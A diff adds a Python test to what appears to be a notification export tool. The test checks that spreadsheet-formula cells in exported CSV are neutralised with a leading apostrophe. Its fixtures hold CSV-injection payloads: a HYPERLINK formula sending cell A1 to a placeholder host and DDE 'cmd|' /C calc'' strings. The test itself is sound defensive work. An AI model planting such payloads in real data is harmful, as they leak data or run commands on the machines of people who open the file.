@@ -199,3 +199,38 @@ def test_a_parent_s_cpr_number_stays_beside_that_parent_s_name_in_the_csv() -> N
     # No CPR number for anyone: the column is empty, not a row of separators.
     document["custody_holders"] = [dict(h, cpr=None) for h in document["custody_holders"]]
     assert csv_row(document, [], code_lists(), {})["parent_cprs"] == ""
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(desk: Desk, tmp_path: Path) -> None:
+    # A notifier's free text reaches the caseworker's spreadsheet: "=HYPERLINK(...)" or "+cmd|..." opened by
+    # double-click would run (CSV injection). Such a cell starts with an apostrophe, which spreadsheets show
+    # as text; a phone number or a date beginning with + or - stays as it is, and JSON Lines keep every text.
+    key = keys.load_recipient_private(desk.key).public()
+    document = json.loads((ROOT / "forms" / "schema" / "examples" / "notification-v2-cpr.json").read_bytes())
+    nid = str(uuid.uuid4())
+    document["notification_id"] = nid
+    document["concern"]["observations"] = '=HYPERLINK("http://example.invalid/?"&A1,"Se billedet")'
+    document["notifier"]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    document["notifier"]["workplace"] = "-2+3+cmd|' /C calc'!A0"
+    document["notifier"]["phone"] = "+45 12 34 56 78"
+    path = tmp_path / "desk" / "underretning-formula.underret"
+    files = {"notification.json": json.dumps(document).encode(), "notification.pdf": b"%PDF"}
+    path.write_bytes(seal(notification_id=nid, form_version="2.0.0", files=files, recipients=[key],
+                          sender_seed=os.urandom(32)))
+    desk.envelopes = [path]
+    out = tmp_path / "case-system"
+    assert desk.export(out) == 0
+    with (out / "notifications.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["observations"] == "'" + document["concern"]["observations"]
+    assert row["notifier_name"] == "'" + document["notifier"]["name"]
+    assert row["notifier_workplace"] == "'" + document["notifier"]["workplace"]
+    assert row["notifier_phone"] == "+45 12 34 56 78"
+    assert not any(value.startswith(("=", "@")) or (value.startswith(("+", "-")) and not _plain_number(value))
+                   for value in row.values())
+    (line,) = (out / "notifications.jsonl").read_text("utf-8").splitlines()
+    assert json.loads(line)["concern"]["observations"] == document["concern"]["observations"]
+
+
+def _plain_number(value: str) -> bool:
+    return all(ch.isdigit() or ch in " +-()/.:" for ch in value)
